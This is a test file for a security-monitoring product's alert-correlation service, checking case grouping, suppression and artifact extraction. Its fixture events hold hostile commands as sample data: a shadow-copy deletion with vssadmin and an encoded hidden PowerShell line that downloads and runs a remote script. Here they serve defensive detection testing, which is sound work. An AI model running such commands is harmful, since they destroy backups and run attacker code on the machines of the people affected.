import { casesApi } from '@parapet/contract/cases.ts';
import { dayMs, minuteMs } from '@parapet/contract/rules/duration.ts';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { useTestApp } from '../../../test/app.ts';
import { correlationFixture } from '../../../test/correlation.fixture.ts';
import { type SeedRule, seedRule } from '../../../test/seed.ts';
import { scoped } from '../../core/db/scope.ts';
import { silentLog } from '../../core/log.ts';
import { runOnAlerts } from './correlation.listen.ts';
import { createCorrelationService } from './correlation.service.ts';

const t = useTestApp();
let correlation: ReturnType<typeof createCorrelationService>;
let { raised, queue, casesOf, membersOf, update } = {} as ReturnType<typeof correlationFixture>;
let severe: SeedRule;
let medium: SeedRule;
let low: SeedRule;
const start = Date.now() - 10 * dayMs;

beforeAll(async () => {
  ({ raised, queue, casesOf, membersOf, update } = correlationFixture(t));
  correlation = createCorrelationService({ db: t.db, log: silentLog });
  severe = await seedRule(t.db, { title: 'Ransomware behaviour', criticality: 4 }, { tactics: ['impact'] });
  medium = await seedRule(t.db, { title: 'Odd program', criticality: 3 }, { tactics: ['execution'] });
  low = await seedRule(t.db, { title: 'Hm', criticality: 2 }, { tactics: ['discovery'] });
});

describe('a case', () => {
  test('opens for a severe alert, joins later ones and gets a title', async () => {
    const client = await t.organisation();
    const [first] = await raised(client, [
      {
        at: start,
        rule: severe,
        device: 'WS-12',
        user: 'ana',
        raisedAt: start + 5_000,
        document: { source: { ip: '203.0.113.66' }, process: { executable: 'C:\\ProgramData\\lock.exe' } },
      },
      { at: start + 5 * minuteMs, rule: medium, device: 'ws-12', user: 'SYSTEM' },
      { at: start + 6 * minuteMs, rule: severe, device: 'FS-1', user: 'CORP\\ana', isNew: false },
    ]);
    expect(await correlation.run(client)).toBe(3);
    const [record, ...others] = await casesOf(client);
    expect(others).toEqual([]);
    expect(record).toMatchObject({
      title: 'Ransomware behaviour on WS-12 and 2 more',
      status: 'open',
      criticality: 4,
      alert_count: 3,
      new_count: 2,
      version: 1,
      needs_decision: true,
      tactics: ['Impact', 'Execution'],
      first_alert_at: new Date(start),
      last_alert_at: new Date(start + 6 * minuteMs),
      created_at: new Date(start + 5_000),
      percentage: 63.81,
    });
    expect((await membersOf(client)).map(({ joined_by }) => joined_by)).toEqual([
      'it is severe on its own',
      'the same device within 24 hours',
      'the same user within 24 hours',
    ]);
    const artifacts = await scoped(t.db, 'system', (tx) =>
      tx.selectFrom('case_artifacts').select(['kind', 'value']).where('case_id', '=', record!.id).execute(),
    );
    expect(artifacts).toEqual(
      expect.arrayContaining([
        { kind: 'sourceIp', value: '203.0.113.66' },
        { kind: 'process', value: 'C:\\ProgramData\\lock.exe' },
      ]),
    );
    const history = await scoped(t.db, 'system', (tx) =>
      tx.selectFrom('case_history').selectAll().where('case_id', '=', record!.id).execute(),
    );
    expect(history).toMatchObject([{ kind: 'alert', text: expect.stringContaining('Opened with 3 alerts') }]);

    await raised(client, [{ at: start + 20 * minuteMs, rule: medium, device: 'WS-12', user: null }]);
    await correlation.run(client);
    expect(await casesOf(client)).toMatchObject([{ id: record!.id, alert_count: 4, version: 2, needs_decision: true }]);
    expect(first!.id).toBeGreaterThan(0);
  });

  test('opens no case for informational and low alerts', async () => {
    const client = await t.organisation();
    await raised(
      client,
      Array.from({ length: 30 }, (_, index) => ({ at: start + index * minuteMs, rule: low, device: 'WS-1', user: 'bo' })),
    );
    expect(await correlation.run(client)).toBe(30);
    expect(await casesOf(client)).toEqual([]);
  });

  test('accepts no alerts once closed: a new one opens', async () => {
    const client = await t.organisation();
    await raised(client, [{ at: start, rule: severe, device: 'WS-1', user: null }]);
    await correlation.run(client);
    const [closed] = await casesOf(client);
    await update(closed!.id, { status: 'closed', closed_at: new Date() });
    await raised(client, [{ at: start + minuteMs, rule: severe, device: 'WS-1', user: null }]);
    await correlation.run(client);
    expect(await casesOf(client)).toMatchObject([
      { id: closed!.id, alert_count: 1 },
      { alert_count: 1, status: 'open' },
    ]);
  });

  test('keeps alerts of organisations apart, joining none across organisations', async () => {
    const [one, other] = [await t.organisation(), await t.organisation()];
    const alert = { at: start, rule: severe, device: 'DC-1', user: 'ana', document: { source: { ip: '203.0.113.66' } } };
    await raised(one, [alert]);
    await raised(other, [{ ...alert, at: start + minuteMs }]);
    await correlation.run();
    for (const client of [one, other]) {
      const [record, ...more] = await casesOf(client);
      expect(more).toEqual([]);
      expect(await membersOf(client)).toMatchObject([{ case_id: record!.id }]);
    }
  });

  test.each(['NT AUTHORITY\\SYSTEM', 'root', '-', 'CORP\\WS-9$', 'LOCAL SERVICE'])(
    'is not joined by %s on another device',
    async (user) => {
      const client = await t.organisation();
      await raised(client, [
        { at: start, rule: severe, device: 'A', user },
        { at: start + minuteMs, rule: severe, device: 'B', user },
      ]);
      await correlation.run(client);
      expect(await casesOf(client)).toHaveLength(2);
    },
  );

  test('ignores internal and widely shared addresses when joining', async () => {
    const client = await t.organisation();
    const from = (ip: string) => (index: number) => ({
      at: start + index * minuteMs,
      rule: severe,
      device: `D${ip}${index}`,
      user: null,
      document: { source: { ip } },
    });
    await raised(client, [0, 1].map(from('10.0.0.1')));
    // Shared before any of the cases begins.
    await raised(
      client,
      Array.from({ length: 5 }, (_, index) => ({ ...from('203.0.113.1')(index - 300), rule: low })),
    );
    await raised(
      client,
      Array.from({ length: 8 }, (_, index) => from('203.0.113.1')(index)),
    );
    await correlation.run(client);
    expect(await casesOf(client)).toHaveLength(10);
  });

  test('joins alerts of an earlier run once it opens', async () => {
    const client = await t.organisation();
    await raised(client, [{ at: start, rule: medium, device: 'WS-1', user: null }]);
    await correlation.run(client);
    expect(await casesOf(client)).toEqual([]);
    await raised(client, [{ at: start + 30 * minuteMs, rule: severe, device: 'WS-1', user: null }]);
    await correlation.run(client);
    expect(await casesOf(client)).toMatchObject([{ alert_count: 2, first_alert_at: new Date(start) }]);
    expect(await membersOf(client)).toMatchObject([{ joined_by: 'it led up to the case within 2 hours' }, {}]);
  });
});

describe('the queue', () => {
  test('processes an alert idempotently', async () => {
    const client = await t.organisation();
    const alerts = await raised(client, [
      { at: start, rule: severe, device: 'WS-1', user: 'ana' },
      { at: start + minuteMs, rule: medium, device: 'WS-1', user: 'ana' },
    ]);
    await correlation.run(client);
    const before = [await casesOf(client), await membersOf(client)];
    expect(await correlation.run(client)).toBe(0);
    await queue(client, alerts);
    expect(await correlation.run(client)).toBe(2);
    expect([await casesOf(client), await membersOf(client)]).toEqual(before);
  });

  test('assigns each alert once with four concurrent runs', async () => {
    const client = await t.organisation();
    await raised(
      client,
      Array.from({ length: 60 }, (_, index) => ({
        at: start + index * 1_000,
        rule: severe,
        device: `WS-${index % 6}`,
        user: null,
      })),
    );
    const processes = Array.from({ length: 4 }, () => createCorrelationService({ db: t.db, log: silentLog }));
    await Promise.all(processes.map((each) => each.run(client)));
    expect(await casesOf(client)).toHaveLength(6);
    expect(await membersOf(client)).toHaveLength(60);
  });

  test('skips an alert deleted by retention', async () => {
    const client = await t.organisation();
    await queue(client, [{ id: 2_000_000_000, at: start } as never]);
    await correlation.run(client);
    const left = await scoped(t.db, 'system', (tx) =>
      tx.selectFrom('correlation_queue').selectAll().where('organisation_id', '=', client).execute(),
    );
    expect(left).toEqual([]);
  });

  test('processes malformed documents', async () => {
    const client = await t.organisation();
    const documents = [
      { source: 'x', process: ['y'] },
      { source: { ip: { deep: [1] } }, host: { ip: 5 } },
      { process: { hash: 'no', entity_id: 'z'.repeat(50_000) } },
    ];
    await raised(
      client,
      documents.map((document, index) => ({ at: start + index, rule: severe, device: `H${index}`, user: null, document })),
    );
    await correlation.run(client);
    expect(await casesOf(client)).toHaveLength(3);
  });
});

test('keeps exactly the suppressed alerts out of cases and counts them', async () => {
  const client = await t.organisation();
  const { id: owner } = await t.user({ organisationId: client, role: 'Analyst' });
  const suppression = await scoped(t.db, 'system', (tx) =>
    tx
      .insertInto('exceptions')
      .values({
        kind: 'suppression',
        organisation_id: client,
        rule_id: severe.id,
        device_name: 'Scanner-1',
        user_name: null,
        reason: 'known',
        owner_user_id: owner,
        owner_name: 'x',
        created_at: new Date(start),
        ends_at: new Date(start + 60 * minuteMs),
      })
      .returning('id')
      .executeTakeFirstOrThrow(),
  );
  const at = (minutes: number, device = 'SCANNER-1', rule = severe) => ({
    at: start + minutes * minuteMs,
    raisedAt: start + minutes * minuteMs,
    rule,
    device,
    user: null,
  });
  const alerts = await raised(client, [at(0), at(59), at(60), at(-1), at(10, 'other'), at(10, 'SCANNER-1', medium)]);
  await correlation.run(client);
  const hidden = await scoped(t.db, 'system', (tx) =>
    tx.selectFrom('suppressed_alerts').selectAll().where('suppression_id', '=', suppression.id).execute(),
  );
  expect(hidden.map(({ alert_id }) => alert_id).sort()).toEqual([alerts[0]!.id, alerts[1]!.id].sort());
  expect(
    await scoped(t.db, 'system', (tx) =>
      tx.selectFrom('exceptions').select('hidden_count').where('id', '=', suppression.id).executeTakeFirst(),
    ),
  ).toEqual({ hidden_count: 2 });
  expect((await membersOf(client)).map(({ alert_id }) => alert_id)).toEqual(alerts.slice(2).map(({ id }) => id));
});

test('keeps an alert under its next rule where one of its rules is suppressed', async () => {
  const client = await t.organisation();
  const { id: owner } = await t.user({ organisationId: client, role: 'Analyst' });
  await scoped(t.db, 'system', (tx) =>
    tx
      .insertInto('exceptions')
      .values({
        kind: 'suppression',
        organisation_id: client,
        rule_id: severe.id,
        reason: 'known',
        owner_user_id: owner,
        owner_name: 'x',
        created_at: new Date(start),
        ends_at: new Date(start + 60 * minuteMs),
      })
      .execute(),
  );
  const other = await seedRule(t.db, { title: 'Other', criticality: 4 }, { tactics: ['persistence'] });
  const alerts = await raised(
    client,
    ['a', 'b', 'c'].map((device) => ({ at: start + minuteMs, raisedAt: start + minuteMs, rule: severe, device, user: null })),
  );
  await scoped(t.db, 'system', async (tx) => {
    for (const [index, also] of [[other.id, low.id], [low.id], []].entries())
      await tx.updateTable('alerts').set({ also_rule_ids: also }).where('id', '=', alerts[index]!.id).execute();
  });
  await correlation.run(client);
  expect(await casesOf(client)).toMatchObject([{ title: 'Other on a', criticality: 4, tactics: ['Persistence', 'Discovery'] }]);
  const hidden = await scoped(t.db, 'system', (tx) =>
    tx.selectFrom('suppressed_alerts').select('alert_id').where('organisation_id', '=', client).orderBy('alert_id').execute(),
  );
  expect(hidden.map(({ alert_id }) => alert_id)).toEqual([alerts[1]!.id, alerts[2]!.id]);
});

test('joins later alerts to an informational one that an analyst added to a case', async () => {
  const partner = await t.organisation({ isPartner: true });
  const client = await t.organisation({ parentId: partner });
  const analyst = await t.user({ organisationId: partner, role: 'Partner Analyst' });
  const hint = await seedRule(t.db, { title: 'Hint', criticality: 1 });
  const document = { source: { ip: '203.0.113.77' } };
  const [opener, added] = await raised(client, [
    { at: start, rule: severe, device: 'WS-1', user: null },
    { at: start + minuteMs, rule: hint, device: 'WS-2', user: 'ana', document },
  ]);
  await correlation.run(client);
  const { id } = (await casesOf(client))[0]!;
  const later = { rule: medium, user: null, document };
  await raised(client, [{ at: start + 2 * minuteMs, device: 'WS-3', ...later }]);
  await correlation.run(client);
  expect((await membersOf(client)).map((member) => member.alert_id)).toEqual([opener!.id]);
  const answer = await t.call(casesApi.addAlert, { body: { caseID: id, alertID: added!.id } }, analyst);
  expect(answer.statusCode, answer.body).toBe(200);
  const [joining] = await raised(client, [{ at: start + 3 * minuteMs, device: 'WS-4', ...later }]);
  await correlation.run(client);
  expect((await membersOf(client)).at(-1)).toMatchObject({
    case_id: id,
    alert_id: joining!.id,
    joined_by: 'the same public address within 24 hours',
  });
});

test('queues alerts in the transaction that raises them', async () => {
  const client = await t.organisation();
  const key = await t.ingestKey(client);
  await t.send(
    key,
    [
      {
        '@timestamp': new Date().toISOString(),
        host: { name: 'ws' },
        event: { code: '1', provider: 'Microsoft-Windows-Sysmon' },
        winlog: {
          event_id: '1',
          provider_name: 'Microsoft-Windows-Sysmon',
          channel: 'Microsoft-Windows-Sysmon/Operational',
          computer_name: 'ws',
          event_data: {
            Image: 'C:\\Windows\\System32\\vssadmin.exe',
            CommandLine: 'vssadmin.exe delete shadows /all /quiet',
            OriginalFileName: 'VSSADMIN.EXE',
          },
        },
      },
    ],
    'winlogbeat-8',
  );
  const alerts = await scoped(t.db, 'system', (tx) =>
    tx.selectFrom('alerts').select('id').where('organisation_id', '=', client).execute(),
  );
  const queued = await scoped(t.db, 'system', (tx) =>
    tx.selectFrom('correlation_queue').select('alert_id as id').where('organisation_id', '=', client).execute(),
  );
  expect(alerts.length).toBeGreaterThan(0);
  expect(queued).toEqual(alerts);
});

test('shows what only decoded text holds, with its field', async () => {
  const client = await t.organisation();
  const hidden = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1'); ping 203.0.113.9";
  const CommandLine = `powershell.exe -nop -w hidden -enc ${Buffer.from(hidden, 'utf16le').toString('base64')}`;
  await t.send(
    await t.ingestKey(client),
    [
      {
        '@timestamp': new Date().toISOString(),
        host: { name: 'ws' },
        winlog: {
          event_id: '1',
          provider_name: 'Microsoft-Windows-Sysmon',
          channel: 'Microsoft-Windows-Sysmon/Operational',
          computer_name: 'ws',
          event_data: { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine },
        },
      },
    ],
    'winlogbeat-8',
  );
  await correlation.run(client);
  const artifacts = await scoped(t.db, 'system', (tx) =>
    tx
      .selectFrom('case_artifacts')
      .select(['kind', 'value', 'decoded_from'])
      .where('organisation_id', '=', client)
      .where('kind', 'in', ['destinationIp', 'domain', 'file', 'device'])
      .orderBy('kind')
      .execute(),
  );
  expect(artifacts).toEqual([
    { kind: 'destinationIp', value: '203.0.113.9', decoded_from: 'process.command_line' },
    { kind: 'device', value: 'ws', decoded_from: null },
    { kind: 'domain', value: 'files.example.net', decoded_from: 'process.command_line' },
    { kind: 'file', value: 'a.ps1', decoded_from: 'process.command_line' },
  ]);
});

test('runs once more for alerts raised during a run', async () => {
  const handlers: (() => void)[] = [];
  let release = () => {};
  const work = vi.fn(
    () =>
      new Promise<void>((resolve) => {
        release = resolve;
      }),
  );
  const stop = runOnAlerts(
    {
      on: (_name: string, handler: never) => {
        handlers.push(handler as () => void);
        return () => {};
      },
    } as never,
    work,
    silentLog,
  );
  for (let i = 0; i < 5; i++) handlers[0]!();
  expect(work).toHaveBeenCalledTimes(1);
  release();
  await vi.waitFor(() => expect(work).toHaveBeenCalledTimes(2));
  release();
  await stop();
  handlers[0]!();
  expect(work).toHaveBeenCalledTimes(2);
});
